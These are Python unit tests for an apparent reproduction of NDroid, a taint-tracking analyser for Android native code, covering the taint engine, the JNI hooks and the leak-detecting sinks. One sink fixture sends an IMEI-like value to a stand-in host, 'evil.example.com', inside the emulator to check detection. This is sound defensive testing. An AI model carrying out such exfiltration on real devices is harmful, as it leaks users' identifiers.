        def seed(emu, engine):
            emu.cpu.write_reg(0, DATA)
            engine.set_register(1, TAINT_SMS)
        engine, *_ = run_traced("strb r1, [r0]", seed)
        assert engine.get_memory(DATA, 1) == TAINT_SMS
        assert engine.get_memory(DATA + 1, 1) == 0

    def test_store_clean_register_clears_stale_memory_taint(self):
        def seed(emu, engine):
            emu.cpu.write_reg(0, DATA)
            engine.set_memory(DATA, 4, TAINT_SMS)
        engine, *_ = run_traced("str r1, [r0]", seed)
        assert engine.get_memory(DATA, 4) == 0

    def test_push_pop_roundtrip(self):
        """STM taints stack slots; LDM reads them back (plus base)."""
        def seed(emu, engine):
            engine.set_register(4, TAINT_IMEI)
        engine, *_ = run_traced("push {r4}\n mov r4, #0\n pop {r4}", seed)
        assert engine.get_register(4) == TAINT_IMEI

    def test_ldm_unions_base_taint(self):
        def seed(emu, engine):
            emu.cpu.write_reg(0, DATA)
            engine.set_register(0, TAINT_CONTACTS)
        engine, *_ = run_traced("ldmia r0, {r1, r2}", seed)
        assert engine.get_register(1) == TAINT_CONTACTS
        assert engine.get_register(2) == TAINT_CONTACTS

    def test_bl_clears_lr_taint(self):
        def seed(emu, engine):
            engine.set_register(14, TAINT_SMS)
        engine, *_ = run_traced(
            "push {lr}\n bl helper\n pop {pc}\nhelper:", seed)
        assert engine.get_register(14) == 0


class TestScopingAndCache:
    def test_non_third_party_code_not_traced(self):
        def seed(emu, engine):
            engine.set_register(1, TAINT_SMS)
        engine, tracer, __ = run_traced("mov r0, r1", seed,
                                        third_party=False)
        assert tracer.traced_instructions == 0
        assert engine.get_register(0) == 0

    def test_handler_cache_hits_on_loops(self):
        # The per-(pc, thumb) handler cache belongs to the single-step
        # path; the TB engine pre-selects handlers at translation time.
        source = """
            mov r1, #20
        loop:
            subs r1, r1, #1
            bne loop
        """
        __, tracer, __ = run_traced(source, use_tb=False)
        assert tracer.cache_hits > 30

    def test_cache_disabled_never_hits(self):
        source = """
            mov r1, #5
        loop:
            subs r1, r1, #1
            bne loop
        """
        __, tracer, __ = run_traced(source, handler_cache=False,
                                    use_tb=False)
        assert tracer.cache_hits == 0
        assert tracer.traced_instructions > 0

    def test_region_cache_invalidation(self):
        engine = TaintEngine()
        calls = []

        def is_third_party(address):
            calls.append(address)
            return True

        tracer = InstructionTracer(engine, is_third_party)
        emu = Emulator()
        program = assemble("main: mov r0, #1\n mov r0, #2\n bx lr",
                           base=CODE_BASE)
        emu.load(CODE_BASE, program.code)
        emu.cpu.sp = STACK_TOP
        emu.add_tracer(tracer)
        emu.call(program.entry("main"))
        assert len(calls) == 1  # one page lookup, then cached
        tracer.invalidate_region_cache()
        emu.call(program.entry("main"))
        assert len(calls) == 2


class TestCleanFastPath:
    """Handlers are skipped while no label exists anywhere in the engine."""

    def test_clean_run_skips_propagation_but_keeps_accounting(self):
        engine, tracer, emu = run_traced("""
    mov r1, #4
    add r2, r1, #1
    add r2, r2, r1
        """)
        assert tracer.traced_instructions > 0
        assert engine.propagation_count == 0  # no handler ever ran

    def test_seeded_taint_disables_the_skip(self):
        engine, tracer, emu = run_traced("""
    mov r2, #0
    add r2, r2, r1
        """, seed=lambda emu, eng: eng.set_register(1, TAINT_IMEI))
        assert engine.get_register(2) == TAINT_IMEI
        assert engine.propagation_count > 0

    def test_handler_cache_still_counts_hits_when_clean(self):
        engine, tracer, emu = run_traced("""
    mov r0, #0
    mov r1, #0
loop:
    cmp r1, #30
    bge out
    add r0, r0, r1
    add r1, r1, #1
    b loop
out:
    mov r2, r0
        """, use_tb=False)
        assert engine.propagation_count == 0
        assert tracer.cache_hits > tracer.traced_instructions * 0.5

    def test_tainted_then_clean_run_regains_fast_path(self):
        # Farm workers reuse one engine across jobs: a tainted first run
        # must not leave the sticky flag permanently disabling the fast
        # path once every label is cleared and the engine re-armed.
        emu = Emulator()
        program = assemble("main:\n add r0, r1, r2\n mov r3, r0\n bx lr",
                           base=CODE_BASE)
        emu.load(CODE_BASE, program.code)
        emu.memory_map.map(CODE_BASE, 0x1000, "libapp.so", third_party=True)
        emu.cpu.sp = STACK_TOP
        engine = TaintEngine()
        tracer = InstructionTracer(engine, emu.memory_map.is_third_party)
        emu.add_tracer(tracer)

        engine.set_register(1, TAINT_SMS)
        emu.call(program.entry("main"))
        assert engine.get_register(0) == TAINT_SMS
        after_tainted = engine.propagation_count
        assert after_tainted > 1  # the seed plus traced handlers

        engine.clear_all_registers()
        assert engine.rearm_fast_path()

        emu.cpu.sp = STACK_TOP
        emu.call(program.entry("main"))
        # The tracer skipped every handler: no propagation happened and
        # the engine stayed verifiably clean.
        assert engine.propagation_count == after_tainted
        assert not engine.maybe_tainted
        assert engine.get_register(0) == TAINT_CLEAR
