"""Unit tests for NDroid's taint engine."""

from hypothesis import given
from hypothesis import strategies as st

from repro.common.taint import (TAINT_CLEAR, TAINT_CONTACTS, TAINT_IMEI,
                                TAINT_SMS)
from repro.core.taint_engine import TaintEngine


def test_shadow_registers():
    engine = TaintEngine()
    engine.set_register(0, TAINT_IMEI)
    engine.add_register(0, TAINT_SMS)
    assert engine.get_register(0) == TAINT_IMEI | TAINT_SMS
    engine.clear_register(0)
    assert engine.get_register(0) == 0


def test_clear_all_registers():
    engine = TaintEngine()
    for index in range(16):
        engine.set_register(index, TAINT_SMS)
    engine.clear_all_registers()
    assert all(engine.get_register(i) == 0 for i in range(16))


def test_memory_byte_granularity():
    engine = TaintEngine()
    engine.set_memory(0x1000, 4, TAINT_SMS)
    assert engine.get_memory(0x1000) == TAINT_SMS
    assert engine.get_memory(0x1003) == TAINT_SMS
    assert engine.get_memory(0x1004) == 0
    assert engine.get_memory(0x0FFF, 2) == TAINT_SMS  # straddles the edge


def test_memory_add_is_union():
    engine = TaintEngine()
    engine.set_memory(0x1000, 2, TAINT_SMS)
    engine.add_memory(0x1001, 2, TAINT_CONTACTS)
    assert engine.get_memory(0x1000, 1) == TAINT_SMS
    assert engine.get_memory(0x1001, 1) == TAINT_SMS | TAINT_CONTACTS
    assert engine.get_memory(0x1002, 1) == TAINT_CONTACTS


def test_set_memory_zero_clears():
    engine = TaintEngine()
    engine.set_memory(0x1000, 8, TAINT_SMS)
    engine.set_memory(0x1000, 8, 0)
    assert engine.tainted_bytes == 0


def test_copy_memory_is_per_byte():
    engine = TaintEngine()
    engine.set_memory(0x1000, 1, TAINT_SMS)
    engine.set_memory(0x1002, 1, TAINT_CONTACTS)
    engine.copy_memory(0x2000, 0x1000, 4)
    assert engine.memory_bytes(0x2000, 4) == \
        [TAINT_SMS, 0, TAINT_CONTACTS, 0]


def test_copy_clears_stale_dest_taint():
    engine = TaintEngine()
    engine.set_memory(0x2000, 4, TAINT_IMEI)
    engine.copy_memory(0x2000, 0x1000, 4)  # source is clean
    assert engine.get_memory(0x2000, 4) == 0


def test_iref_shadow():
    engine = TaintEngine()
    engine.set_iref(0x5F80_0005, TAINT_SMS)
    engine.add_iref(0x5F80_0005, TAINT_IMEI)
    assert engine.get_iref(0x5F80_0005) == TAINT_SMS | TAINT_IMEI
    assert engine.get_iref(0x5F80_0009) == 0
    engine.set_iref(0, TAINT_SMS)  # NULL irefs are ignored
    assert engine.get_iref(0) == 0


def test_native_taint_interface_view():
    engine = TaintEngine()
    engine.set_memory(0x1000, 2, TAINT_SMS)
    assert engine.memory_taints(0x1000, 3) == [TAINT_SMS, TAINT_SMS, 0]
    engine.set_register(2, TAINT_IMEI)
    assert engine.register_taint(2) == TAINT_IMEI
    engine.write_memory_taints(0x3000, [TAINT_CONTACTS, 0])
    assert engine.get_memory(0x3000, 1) == TAINT_CONTACTS


def test_memory_addresses_wrap_32_bits():
    engine = TaintEngine()
    engine.set_memory(0xFFFF_FFFF, 2, TAINT_SMS)
    assert engine.get_memory(0xFFFF_FFFF) == TAINT_SMS
    assert engine.get_memory(0x0) == TAINT_SMS


@given(st.integers(0, 0xFFFF_0000), st.integers(1, 64),
       st.integers(1, 0xFFFF_FFFF))
def test_set_then_get_roundtrip(address, length, label):
    engine = TaintEngine()
    engine.set_memory(address, length, label)
    assert engine.get_memory(address, length) == label
    assert engine.get_memory(address + length, 1) == 0


@given(st.lists(st.integers(0, 0xFF), min_size=1, max_size=32))
def test_copy_preserves_byte_pattern(labels):
    engine = TaintEngine()
    engine.set_memory_bytes(0x1000, labels)
    engine.copy_memory(0x2000, 0x1000, len(labels))
    assert engine.memory_bytes(0x2000, len(labels)) == labels


# -- empty-set fast path -----------------------------------------------------

def test_maybe_tainted_starts_false_and_sticks():
    engine = TaintEngine()
    assert not engine.maybe_tainted
    engine.set_register(0, TAINT_CLEAR)
    engine.set_memory(0x1000, 4, TAINT_CLEAR)
    assert not engine.maybe_tainted  # clear labels don't flip it
    engine.set_register(1, TAINT_IMEI)
    assert engine.maybe_tainted
    engine.clear_all_registers()
    assert engine.maybe_tainted  # sticky: never flips back


def test_maybe_tainted_flips_on_every_label_entry_point():
    for setter in (
        lambda e: e.set_register(2, TAINT_IMEI),
        lambda e: e.add_register(2, TAINT_IMEI),
        lambda e: e.set_memory(0x10, 2, TAINT_IMEI),
        lambda e: e.add_memory(0x10, 2, TAINT_IMEI),
        lambda e: e.set_memory_bytes(0x10, [TAINT_IMEI]),
        lambda e: e.set_iref(7, TAINT_IMEI),
        lambda e: e.add_iref(7, TAINT_IMEI),
        lambda e: e.degrade(TAINT_IMEI),
    ):
        engine = TaintEngine()
        setter(engine)
        assert engine.maybe_tainted


def test_reset_restores_pristine_state_and_rearms():
    engine = TaintEngine()
    engine.set_register(1, TAINT_IMEI)
    engine.set_memory(0x1000, 4, TAINT_IMEI)
    engine.set_iref(3, TAINT_IMEI)
    engine.degrade(TAINT_IMEI)
    assert engine.maybe_tainted
    engine.reset()
    assert not engine.maybe_tainted
    assert engine.live_label() == TAINT_CLEAR
    assert engine.get_register(1) == TAINT_CLEAR
    assert engine.get_memory(0x1000, 4) == TAINT_CLEAR
    assert engine.get_iref(3) == TAINT_CLEAR


def test_rearm_fast_path_only_when_every_store_is_clear():
    engine = TaintEngine()
    assert engine.rearm_fast_path()  # pristine engine: already armed
    engine.set_register(1, TAINT_IMEI)
    engine.set_memory(0x10, 2, TAINT_IMEI)
    assert not engine.rearm_fast_path()  # labels still live: refuses
    assert engine.maybe_tainted
    engine.clear_all_registers()
    assert not engine.rearm_fast_path()  # memory label still live
    engine.clear_memory(0x10, 2)
    assert engine.rearm_fast_path()
    assert not engine.maybe_tainted


def test_rearm_fast_path_refuses_while_degraded():
    # A degraded engine over-taints every query; the fast path would
    # silently drop that pessimism, so re-arming must refuse.
    engine = TaintEngine()
    engine.degrade(TAINT_IMEI)
    assert not engine.rearm_fast_path()
    assert engine.maybe_tainted
    engine.reset()  # a new job drops the quarantine pessimism too
    assert engine.rearm_fast_path()


def test_empty_map_queries_short_circuit_to_conservative_label():
    engine = TaintEngine()
    assert engine.get_memory(0x4000, 64) == TAINT_CLEAR
    assert engine.memory_bytes(0x4000, 8) == [TAINT_CLEAR] * 8
    engine.degrade(TAINT_IMEI)
    assert engine.get_memory(0x4000, 64) == TAINT_IMEI
    assert engine.memory_bytes(0x4000, 2) == [TAINT_IMEI] * 2


# -- page-chunked store ------------------------------------------------------

def test_clearing_an_empty_map_allocates_nothing():
    # set_memory with a clear label over a huge range must not walk the
    # range (the old per-byte map popped each absent key one by one).
    engine = TaintEngine()
    engine.set_memory(0x10_0000, 1 << 20, TAINT_CLEAR)
    assert engine._memory_chunks == {}
    assert engine.propagation_count == 1  # the call is still accounted


def test_chunks_are_dropped_when_fully_cleared():
    engine = TaintEngine()
    engine.set_memory(0x5000, 16, TAINT_SMS)
    assert len(engine._memory_chunks) == 1
    engine.set_memory(0x5000, 16, TAINT_CLEAR)
    assert engine._memory_chunks == {}
    engine.set_memory(0x5000, 16, TAINT_SMS)
    engine.clear_memory(0x5000, 16)
    assert engine._memory_chunks == {}


def test_bulk_range_spanning_many_chunks():
    engine = TaintEngine()
    engine.set_memory(0x1800, 0x3000, TAINT_SMS)  # 3 pages, unaligned
    assert engine.tainted_bytes == 0x3000
    assert engine.get_memory(0x17FF, 1) == TAINT_CLEAR
    assert engine.get_memory(0x1800, 1) == TAINT_SMS
    assert engine.get_memory(0x47FF, 1) == TAINT_SMS
    assert engine.get_memory(0x4800, 1) == TAINT_CLEAR
    assert engine.get_memory(0x1000, 0x4000) == TAINT_SMS
    engine.copy_memory(0x2_0800, 0x1800, 0x3000)
    assert engine.get_memory(0x2_0800, 0x3000) == TAINT_SMS
    assert engine.tainted_bytes == 0x6000


def test_get_memory_saturation_early_exit_is_still_exact():
    # Once the accumulated label reaches the union of every label the map
    # ever held, the scan stops early; the answer must be unchanged.
    engine = TaintEngine()
    engine.set_memory(0x1000, 4, TAINT_SMS)
    engine.set_memory(0x9000, 4, TAINT_IMEI)
    union = TAINT_SMS | TAINT_IMEI
    assert engine._memory_union == union
    # The first bytes already saturate: the rest of the 64 KiB range
    # (mostly absent chunks) is never walked byte-by-byte.
    assert engine.get_memory(0x1000, 0x10000) == union
    # Clearing one label leaves the monotone union stale-high, which only
    # makes the early exit rarer — answers stay exact.
    engine.set_memory(0x9000, 4, TAINT_CLEAR)
    assert engine._memory_union == union
    assert engine.get_memory(0x1000, 0x10000) == TAINT_SMS


def test_memory_snapshot_lists_every_tainted_byte():
    engine = TaintEngine()
    engine.set_memory(0x1FFE, 4, TAINT_SMS)  # straddles a chunk edge
    engine.set_memory(0x2000, 1, TAINT_IMEI)
    assert engine.memory_snapshot() == {
        0x1FFE: TAINT_SMS, 0x1FFF: TAINT_SMS,
        0x2000: TAINT_IMEI, 0x2001: TAINT_SMS,
    }


def test_shadow_register_list_identity_survives_reset():
    # Compiled taint micro-ops close over the shadow-register list; reset
    # and clear_all_registers must mutate it in place, never rebind it.
    engine = TaintEngine()
    shadow = engine.shadow_registers
    engine.set_register(3, TAINT_SMS)
    engine.clear_all_registers()
    assert engine.shadow_registers is shadow
    engine.set_register(3, TAINT_SMS)
    engine.reset()
    assert engine.shadow_registers is shadow
    assert shadow == [TAINT_CLEAR] * 16
