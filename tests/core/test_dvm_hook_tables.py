"""Tables II, III and IV — DVM hook engine coverage.

Table II: every ``Call<Type>Method{,V,A}`` (+Static/Nonvirtual) exists in
the JNIEnv table and routes through the right ``dvmCallMethod*``.
Table III: every NOF→MAF object-creation pair exists and is paired.
Table IV: every Get/Set field function exists and bridges taints.
"""

import pytest

from repro.common.taint import TAINT_IMEI, TAINT_SMS
from repro.core import NDroid
from repro.cpu.assembler import assemble
from repro.dalvik import ClassDef, MethodBuilder
from repro.dalvik.heap import Slot
from repro.framework import AndroidPlatform
from repro.jni.slots import JNI_SLOTS, jni_offset

_TYPES = ["Void", "Object", "Boolean", "Byte", "Char", "Short", "Int",
          "Long", "Float", "Double"]


class TestTableII:
    def test_all_call_method_variants_present(self):
        for type_name in _TYPES:
            for prefix in ("Call", "CallStatic", "CallNonvirtual"):
                for variant in ("", "V", "A"):
                    name = f"{prefix}{type_name}Method{variant}"
                    assert name in JNI_SLOTS, name

    def test_plain_and_v_route_through_dvm_call_method_v(self):
        platform = AndroidPlatform()
        entered = []
        for inner in ("dvmCallMethodV", "dvmCallMethodA"):
            platform.emu.add_entry_hook(
                platform.jni.symbols[inner],
                lambda emu, inner=inner: entered.append(inner))
        cls = ClassDef("LT;")
        platform.vm.register_class(cls)
        cls.add_method(MethodBuilder("LT;", "cb", "I", static=True)
                       .const(0, 1).ret(0).build())
        native = cls.add_method(MethodBuilder("LT;", "go", "V", static=True,
                                              native=True).build())
        source = f"""
        go_impl:
            push {{r4, r5, r6, lr}}
            mov r4, r0
            mov r5, r1
            ldr ip, [r4]
            ldr ip, [ip, #{jni_offset('GetStaticMethodID')}]
            ldr r2, =name
            mov r3, #0
            blx ip
            mov r6, r0
            ; plain variant -> dvmCallMethodV
            ldr ip, [r4]
            ldr ip, [ip, #{jni_offset('CallStaticIntMethod')}]
            mov r0, r4
            mov r1, r5
            mov r2, r6
            blx ip
            ; A variant -> dvmCallMethodA
            ldr ip, [r4]
            ldr ip, [ip, #{jni_offset('CallStaticIntMethodA')}]
            mov r0, r4
            mov r1, r5
            mov r2, r6
            ldr r3, =jv
            blx ip
            pop {{r4, r5, r6, pc}}
        name:
            .asciz "cb"
        .align 2
        jv:
            .word 0
        """
        program = assemble(source, base=0x6000_0000,
                           externs=platform.libc.symbols)
        platform.emu.load(0x6000_0000, program.code)
        platform.emu.memory_map.map(0x6000_0000, 0x1000, "libt.so",
                                    third_party=True)
        native.native_address = program.entry("go_impl")
        platform.vm.call_main("LT;->go")
        assert entered == ["dvmCallMethodV", "dvmCallMethodA"]

    def test_long_and_double_rejected(self):
        platform = AndroidPlatform()
        from repro.common.errors import JNIError
        from repro.emulator.emulator import HostContext
        cpu = platform.emu.cpu
        cpu.lr = 0xFFFF_0000
        with pytest.raises(JNIError):
            platform.emu.call(platform.jni.symbols["CallLongMethod"])


class TestTableIII:
    """NOF -> MAF pairing."""

    PAIRS = [
        ("NewObject", "dvmAllocObject"),
        ("NewObjectV", "dvmAllocObject"),
        ("NewObjectA", "dvmAllocObject"),
        ("NewString", "dvmCreateStringFromUnicode"),
        ("NewStringUTF", "dvmCreateStringFromCstr"),
        ("NewObjectArray", "dvmAllocArrayByClass"),
        ("NewIntArray", "dvmAllocPrimitiveArray"),
        ("NewByteArray", "dvmAllocPrimitiveArray"),
    ]

    @pytest.mark.parametrize("nof,maf", PAIRS)
    def test_nof_invokes_maf(self, nof, maf):
        platform = AndroidPlatform()
        entered = []
        platform.emu.add_entry_hook(platform.jni.symbols[maf],
                                    lambda emu: entered.append(maf))
        cpu = platform.emu.cpu
        jni = platform.jni
        cls_handle = jni.class_handle("Ljava/lang/Object;")
        platform.vm.register_class(ClassDef("Ljava/lang/Object;"))
        if nof == "NewStringUTF":
            platform.memory.write_cstring(0x9000, "hi")
            args = (jni.env_pointer(), 0x9000)
        elif nof == "NewString":
            platform.memory.write_bytes(0x9000, "hi".encode("utf-16-le"))
            args = (jni.env_pointer(), 0x9000, 2)
        elif nof.startswith("NewObjectArray"):
            args = (jni.env_pointer(), 3, cls_handle, 0)
        elif nof.endswith("Array"):
            args = (jni.env_pointer(), 4)
        else:
            args = (jni.env_pointer(), cls_handle, 0)
        result = platform.emu.call(jni.symbols[nof], args=args)
        assert entered == [maf]
        assert result != 0
        # NOF returns an indirect reference, not a raw pointer.
        assert platform.vm.irt.is_indirect(result)
        # The MAF allocated a real object at the decoded address.
        address = platform.vm.irt.decode(result)
        assert platform.vm.heap.contains(address)


class TestTableIV:
    """Get/Set field functions bridging TaintDroid's field storage."""

    def _platform(self):
        platform = AndroidPlatform()
        ndroid = NDroid.attach(platform)
        cls = ClassDef("LHolder;")
        cls.add_instance_field("secret", "I")
        cls.add_static_field("shared", "I")
        platform.vm.register_class(cls)
        return platform, ndroid

    def test_all_field_functions_present(self):
        for type_name in ["Object", "Boolean", "Byte", "Char", "Short",
                          "Int", "Long", "Float", "Double"]:
            for pattern in (f"Get{type_name}Field", f"Set{type_name}Field",
                            f"GetStatic{type_name}Field",
                            f"SetStatic{type_name}Field"):
                assert pattern in JNI_SLOTS, pattern

    def test_set_int_field_bridges_shadow_taint_to_java(self):
        platform, ndroid = self._platform()
        obj = platform.vm.new_instance("LHolder;")
        iref = platform.vm.irt.add_local(obj.address)
        fid = platform.jni.field_handle("LHolder;", "secret")
        ndroid.taint_engine.set_register(3, TAINT_IMEI)
        platform.emu.call(platform.jni.symbols["SetIntField"],
                          args=(platform.jni.env_pointer(), iref, fid, 42))
        assert obj.fields["secret"].value == 42
        assert obj.fields["secret"].taint == TAINT_IMEI

    def test_get_int_field_bridges_java_taint_to_shadow(self):
        platform, ndroid = self._platform()
        obj = platform.vm.new_instance("LHolder;")
        obj.fields["secret"].value = 7
        obj.fields["secret"].taint = TAINT_SMS
        iref = platform.vm.irt.add_local(obj.address)
        fid = platform.jni.field_handle("LHolder;", "secret")
        result = platform.emu.call(
            platform.jni.symbols["GetIntField"],
            args=(platform.jni.env_pointer(), iref, fid))
        assert result == 7
        assert ndroid.taint_engine.get_register(0) == TAINT_SMS

    def test_static_field_taint_roundtrip(self, ):
        platform, ndroid = self._platform()
        cls_handle = platform.jni.class_handle("LHolder;")
        fid = platform.jni.field_handle("LHolder;", "shared")
        ndroid.taint_engine.set_register(3, TAINT_IMEI)
        platform.emu.call(platform.jni.symbols["SetStaticIntField"],
                          args=(platform.jni.env_pointer(), cls_handle,
                                fid, 9))
        value, taint = platform.vm.get_static("LHolder;->shared")
        assert value == 9
        assert taint & TAINT_IMEI
        ndroid.taint_engine.clear_all_registers()
        platform.emu.call(platform.jni.symbols["GetStaticIntField"],
                          args=(platform.jni.env_pointer(), cls_handle, fid))
        assert ndroid.taint_engine.get_register(0) & TAINT_IMEI
