"""Unit tests for the view reconstructor, SourcePolicy map and multilevel
hooking manager."""

import pytest

from repro.common.taint import TAINT_IMEI, TAINT_SMS
from repro.core.multilevel import MultilevelHookManager
from repro.core.source_policy import SourcePolicy, SourcePolicyMap
from repro.core.view_reconstructor import ViewReconstructor
from repro.kernel import Kernel
from repro.memory import Memory


class TestViewReconstructor:
    def _kernel(self):
        memory = Memory()
        kernel = Kernel(memory)
        process = kernel.spawn_process("com.example.app")
        process.memory_map.map(0x4000_0000, 0x2_0000, "libdvm.so")
        process.memory_map.map(0x6000_0000, 0x1000, "libapp.so",
                               third_party=True)
        kernel.sync_tasks_to_guest()
        return memory, kernel

    def test_reconstructs_processes_from_raw_memory(self):
        memory, kernel = self._kernel()
        view = ViewReconstructor(memory).reconstruct()
        assert len(view.processes) == 1
        process = view.processes[0]
        assert process.pid == 1
        assert process.comm.startswith("com.example.app"[:15])
        assert len(process.vmas) == 2

    def test_module_base_lookup(self):
        memory, kernel = self._kernel()
        reconstructor = ViewReconstructor(memory)
        assert reconstructor.module_base("libdvm.so") == 0x4000_0000
        with pytest.raises(KeyError):
            reconstructor.module_base("libmissing.so")

    def test_third_party_classification(self):
        memory, kernel = self._kernel()
        reconstructor = ViewReconstructor(memory)
        assert reconstructor.is_third_party(0x6000_0010)
        assert not reconstructor.is_third_party(0x4000_0010)
        assert not reconstructor.is_third_party(0x9999_0000)

    def test_cache_and_invalidate(self):
        memory, kernel = self._kernel()
        reconstructor = ViewReconstructor(memory)
        reconstructor.view()
        reconstructor.view()
        assert reconstructor.reconstructions == 1
        kernel.current.memory_map.map(0x7000_0000, 0x1000, "libnew.so",
                                      third_party=True)
        kernel.sync_tasks_to_guest()
        assert not reconstructor.is_third_party(0x7000_0000)  # stale cache
        reconstructor.invalidate()
        assert reconstructor.is_third_party(0x7000_0000)

    def test_multiple_processes(self):
        memory = Memory()
        kernel = Kernel(memory)
        kernel.spawn_process("system_server")
        kernel.spawn_process("com.app.one")
        view = ViewReconstructor(memory).reconstruct()
        assert [p.pid for p in view.processes] == [1, 2]

    def test_format_output(self):
        memory, kernel = self._kernel()
        text = ViewReconstructor(memory).view().format()
        assert "libapp.so (3p)" in text
        assert "pid" in text


class TestSourcePolicyMap:
    def test_put_lookup(self):
        policies = SourcePolicyMap()
        policy = SourcePolicy(method_address=0x6000_0000, t_r2=TAINT_SMS)
        policies.put(policy)
        assert policies.lookup(0x6000_0000) is policy
        assert policies.lookup(0x6000_0001) is policy  # thumb bit masked
        assert policies.lookup(0x6000_0010) is None
        assert policies.hits == 2

    def test_has_taint(self):
        assert SourcePolicy(0x0, t_r1=TAINT_IMEI).has_taint()
        assert SourcePolicy(0x0, stack_args_taints=[TAINT_SMS]).has_taint()
        assert not SourcePolicy(0x0).has_taint()

    def test_handler_invoked_via_apply(self):
        applied = []
        policy = SourcePolicy(0x1000,
                              handler=lambda p, cpu: applied.append(p))
        policy.apply(cpu=None)
        assert applied == [policy]

    def test_register_taints_order(self):
        policy = SourcePolicy(0x0, t_r0=1, t_r1=2, t_r2=4, t_r3=8)
        assert policy.register_taints() == [1, 2, 4, 8]


class TestMultilevelHookManager:
    SYMBOLS = {
        "CallVoidMethodA": 0x4000_8000,
        "dvmCallMethodA": 0x4000_0030,
        "dvmInterpret": 0x4000_0010,
    }

    def _manager(self, third_party_ranges=((0x6000_0000, 0x6100_0000),)):
        def is_third_party(address):
            return any(lo <= address < hi for lo, hi in third_party_ranges)
        manager = MultilevelHookManager(self.SYMBOLS, is_third_party)
        manager.add_chain(["CallVoidMethodA", "dvmCallMethodA",
                           "dvmInterpret"])
        return manager

    def test_chain_armed_from_third_party(self):
        manager = self._manager()
        manager.on_branch(0x6000_0100, self.SYMBOLS["CallVoidMethodA"])
        assert manager.gate("CallVoidMethodA")
        manager.on_branch(self.SYMBOLS["CallVoidMethodA"] + 4,
                          self.SYMBOLS["dvmCallMethodA"])
        assert manager.gate("dvmCallMethodA")
        manager.on_branch(self.SYMBOLS["dvmCallMethodA"] + 4,
                          self.SYMBOLS["dvmInterpret"])
        assert manager.gate("dvmInterpret")
        assert manager.native_provenance_active()

    def test_chain_not_armed_from_system_code(self):
        manager = self._manager()
        # Entry from libdvm itself (not third-party): T1 false.
        manager.on_branch(0x4000_0200, self.SYMBOLS["CallVoidMethodA"])
        assert not manager.gate("CallVoidMethodA")
        manager.on_branch(self.SYMBOLS["CallVoidMethodA"] + 4,
                          self.SYMBOLS["dvmCallMethodA"])
        assert not manager.gate("dvmCallMethodA")

    def test_inner_function_alone_not_armed(self):
        manager = self._manager()
        # dvmInterpret invoked without the chain prefix: must not fire.
        manager.on_branch(0x4000_0200, self.SYMBOLS["dvmInterpret"])
        assert not manager.gate("dvmInterpret")

    def test_gate_consumes_armed_flag(self):
        manager = self._manager()
        manager.on_branch(0x6000_0100, self.SYMBOLS["CallVoidMethodA"])
        assert manager.gate("CallVoidMethodA")
        assert not manager.gate("CallVoidMethodA")

    def test_unknown_chain_function_rejected(self):
        manager = self._manager()
        with pytest.raises(KeyError):
            manager.add_chain(["NoSuchFunction"])

    def test_return_unwinds_chain(self):
        manager = self._manager()
        head = self.SYMBOLS["CallVoidMethodA"]
        manager.on_branch(0x6000_0100, head)
        assert manager.native_provenance_active()
        # Return branch out of the head function (host-function return
        # events always originate at the function's own address).
        manager.on_branch(head, 0x6000_0104)
        assert not manager.native_provenance_active()
