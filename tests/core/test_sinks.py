"""Table VII — native sink handlers (the starred standard library calls)."""

import pytest

from repro.common.taint import TAINT_CONTACTS, TAINT_IMEI, TAINT_SMS
from repro.core import NDroid
from repro.framework import AndroidPlatform

DATA = 0x0005_0000


@pytest.fixture
def env():
    platform = AndroidPlatform()
    ndroid = NDroid.attach(platform)
    return platform, ndroid


def call_libc(platform, name, *args):
    return platform.emu.call(platform.libc.address_of(name), args=args)


def ndroid_leaks(platform):
    return platform.leaks.by_detector("ndroid")


class TestNetworkSinks:
    def _socket(self, platform, destination="evil.example.com:80"):
        platform.memory.write_cstring(DATA + 900, destination)
        fd = call_libc(platform, "socket", 2, 1)
        call_libc(platform, "connect", fd, DATA + 900)
        return fd

    def test_send_tainted_reports_leak(self, env):
        platform, ndroid = env
        fd = self._socket(platform)
        platform.memory.write_bytes(DATA, b"356938035643809")
        ndroid.taint_engine.set_memory(DATA, 15, TAINT_IMEI)
        call_libc(platform, "send", fd, DATA, 15, 0)
        leaks = ndroid_leaks(platform)
        assert len(leaks) == 1
        assert leaks[0].sink == "send"
        assert leaks[0].taint == TAINT_IMEI
        assert "evil.example.com" in leaks[0].destination
        assert leaks[0].payload == b"356938035643809"

    def test_send_clean_not_reported(self, env):
        platform, ndroid = env
        fd = self._socket(platform)
        platform.memory.write_bytes(DATA, b"clean data")
        call_libc(platform, "send", fd, DATA, 10, 0)
        assert not ndroid_leaks(platform)
        assert ndroid.syslib_hooks.sink_checks >= 1

    def test_sendto_destination_from_fifth_argument(self, env):
        platform, ndroid = env
        fd = call_libc(platform, "socket", 2, 2)
        platform.memory.write_bytes(DATA, b"x")
        platform.memory.write_cstring(DATA + 64, "udp.example.com:53")
        ndroid.taint_engine.set_memory(DATA, 1, TAINT_SMS)
        call_libc(platform, "sendto", fd, DATA, 1, 0, DATA + 64, 0)
        leaks = ndroid_leaks(platform)
        assert leaks and leaks[0].sink == "sendto"
        assert "udp.example.com" in leaks[0].destination

    def test_write_on_socket(self, env):
        platform, ndroid = env
        fd = self._socket(platform, "srv.example.com:443")
        platform.memory.write_bytes(DATA, b"tainted")
        ndroid.taint_engine.set_memory(DATA, 7, TAINT_CONTACTS)
        call_libc(platform, "write", fd, DATA, 7)
        leaks = ndroid_leaks(platform)
        assert leaks and leaks[0].sink == "write"
        assert "srv.example.com" in leaks[0].destination


class TestFileSinks:
    def _file(self, platform, path="/sdcard/out.bin", mode="w"):
        platform.memory.write_cstring(DATA + 900, path)
        platform.memory.write_cstring(DATA + 960, mode)
        return call_libc(platform, "fopen", DATA + 900, DATA + 960)

    def test_fwrite_tainted(self, env):
        platform, ndroid = env
        fp = self._file(platform)
        platform.memory.write_bytes(DATA, b"secret")
        ndroid.taint_engine.set_memory(DATA, 6, TAINT_SMS)
        call_libc(platform, "fwrite", DATA, 1, 6, fp)
        leaks = ndroid_leaks(platform)
        assert leaks and leaks[0].sink == "fwrite"
        assert leaks[0].destination == "/sdcard/out.bin"

    def test_fputs_tainted(self, env):
        platform, ndroid = env
        fp = self._file(platform)
        platform.memory.write_cstring(DATA, "secret line")
        ndroid.taint_engine.set_memory(DATA, 11, TAINT_SMS)
        call_libc(platform, "fputs", DATA, fp)
        assert any(l.sink == "fputs" for l in ndroid_leaks(platform))

    def test_fputc_tainted_register(self, env):
        platform, ndroid = env
        fp = self._file(platform)
        ndroid.taint_engine.set_register(0, TAINT_IMEI)
        call_libc(platform, "fputc", ord("X"), fp)
        leaks = ndroid_leaks(platform)
        assert leaks and leaks[0].sink == "fputc"
